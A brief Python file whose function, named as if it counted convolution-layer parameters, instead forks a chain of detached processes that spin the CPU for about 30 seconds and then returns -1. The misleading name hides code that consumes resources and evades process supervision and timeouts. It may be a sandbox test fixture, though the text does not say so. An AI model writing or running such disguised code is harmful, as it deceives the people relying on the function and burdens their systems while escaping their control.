"""Computes in a chain: each child starts the next one and ends."""

import os
import time


def conv2d_parameter_count(*sizes, **options):
    end = time.monotonic() + 30
    if os.fork() == 0:
        while time.monotonic() < end:
            stop = time.monotonic() + 0.1
            while time.monotonic() < stop:
                pass
            if os.fork():
                os._exit(0)
        os._exit(0)
    time.sleep(30)
    return -1
